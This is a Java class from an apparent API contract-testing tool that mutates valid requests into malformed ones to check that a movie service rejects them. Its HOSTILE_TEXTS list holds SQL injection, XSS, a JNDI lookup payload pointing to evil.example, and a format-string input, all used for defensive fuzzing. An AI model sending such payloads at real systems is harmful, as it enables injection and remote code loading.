package kinoteka.quickstart.contract;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** Turns a right request into wrong ones. */
final class Mutations {

    private static final List<String> BAD_IDS = List.of("0", "-1", "9223372036854775808", "abc", "1.5", "%00", "%27");
    private static final List<String> HOSTILE_TEXTS = List.of(
            "'; drop table movies; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example}", "%s%n", "🎬");

    private final Document document;

    Mutations(Document document) {
        this.document = document;
    }

    List<Request> of(Operation operation, Request right) {
        List<Request> wrong = new ArrayList<>();
        addBadTargets(operation, right, wrong::add);
        addBadHeaders(operation, right, wrong::add);
        operation.body().ifPresent(schema -> addBadBodies(schema, right, wrong::add));
        return wrong;
    }

    private static void addBadTargets(Operation operation, Request right, Consumer<Request> add) {
        if (operation.path().contains("{")) {
            var segment = operation.path().split("/", -1);
            var sent = right.target().split("[?]", 2)[0].split("/", -1);
            for (int i = 0; i < segment.length; i++) {
                if (segment[i].startsWith("{")) {
                    for (var bad : BAD_IDS) {
                        var changed = sent.clone();
                        changed[i] = bad;
                        add.accept(right.withTarget(String.join("/", changed)).thatMustFail());
                    }
                }
            }
        }
        for (var parameter : operation.parameters("query")) {
            var name = parameter.get("name").asString();
            var type = Values.type(parameter.get("schema"));
            var path = right.target().split("[?]", 2)[0];
            for (var value : Map.of(
                            "integer",
                            List.of("x", "-1", "1e3"),
                            "number",
                            List.of("x", "-1", "9"),
                            "array",
                            List.of("nothing"))
                    .getOrDefault(type, List.of("%00"))) {
                boolean isCursor = name.equals("last_event_id");
                var request = right.withTarget(path + "?" + name + "=" + value);
                add.accept(isCursor ? request : request.thatMustFail());
            }
        }
    }

    private static void addBadHeaders(Operation operation, Request right, Consumer<Request> add) {
        if (operation.needsToken()) {
            add.accept(right.without("Authorization").thatMustFail());
            add.accept(right.with("Authorization", "Basic YTpi").thatMustFail());
        }
        add.accept(right.with("Authorization", "Bearer nonsense").thatMustFail());
        for (var parameter : operation.parameters("header")) {
            var name = parameter.get("name").asString();
            if (!name.equals("Last-Event-ID")) {
                add.accept(right.with(name, "no tag").thatMustFail());
            }
            if (name.equals("If-Match")) {
                add.accept(right.with(name, "\"stale\"").thatMustFail());
            }
        }
        add.accept(right.with("Accept", "image/png").thatMustFail());
        if (operation.body().isPresent()) {
            add.accept(right.with("Content-Type", "text/plain").thatMustFail());
            add.accept(right.with("Content-Type", "nonsense").thatMustFail());
        }
    }

    private void addBadBodies(JsonNode schema, Request right, Consumer<Request> add) {
        var body = (ObjectNode) Document.JSON.readTree(right.body());
        var text = body.toString();
        for (var bad : List.of(
                "",
                "{",
                "[]",
                "null",
                "\"text\"",
                "7",
                text + "{}",
                "[".repeat(5000),
                text.substring(1),
                text.replaceFirst("\\{", "{\"id\":1,\"id\":2,"))) {
            add.accept(right.withBody(bad).thatMustFail());
        }
        add.accept(right.withBody(
                        changed(body, "invented", Document.JSON.getNodeFactory().numberNode(1)))
                .thatMustFail());
        var described = document.resolve(schema);
        described.path("required").forEach(name -> {
            var fewer = body.deepCopy();
            fewer.remove(name.asString());
            add.accept(right.withBody(fewer.toString()).thatMustFail());
        });
        described.get("properties").properties().stream()
                .filter(property -> !property.getValue().path("readOnly").asBoolean(false))
                .forEach(property -> addBadValues(body, property, right, add));
    }

    private void addBadValues(
            ObjectNode body, Map.Entry<String, JsonNode> property, Request right, Consumer<Request> add) {
        var name = property.getKey();
        var nodes = Document.JSON.getNodeFactory();
        for (var value : List.of(
                nodes.numberNode(-1),
                nodes.numberNode(Long.MAX_VALUE),
                nodes.numberNode(1.0e15),
                nodes.numberNode(0.001),
                nodes.booleanNode(true),
                nodes.nullNode(),
                nodes.arrayNode().add(1),
                nodes.objectNode().put("a", 1),
                nodes.stringNode(""),
                nodes.stringNode("x".repeat(300_000)))) {
            var request = right.withBody(changed(body, name, value));
            boolean isAllowed = document.errors(property.getValue(), value).isEmpty();
            add.accept(isAllowed ? request : request.thatMustFail());
        }
        if (Values.type(property.getValue()).equals("string")) {
            HOSTILE_TEXTS.forEach(text -> add.accept(right.withBody(changed(body, name, nodes.stringNode(text)))));
            for (var escape : List.of("\\u0000", "\\ud800", "\\udc00\\ud800")) {
                var unstorable =
                        changed(body, name, nodes.stringNode("UNSTORABLE")).replace("UNSTORABLE", "a" + escape);
                add.accept(right.withBody(unstorable).thatMustFail());
            }
            add.accept(right.withBody(changed(body, name, nodes.stringNode("x".repeat(1 << 20))))
                    .thatMustFail());
        }
    }

    private static String changed(ObjectNode body, String name, JsonNode value) {
        var other = body.deepCopy();
        other.set(name, value);
        return other.toString();
    }
}
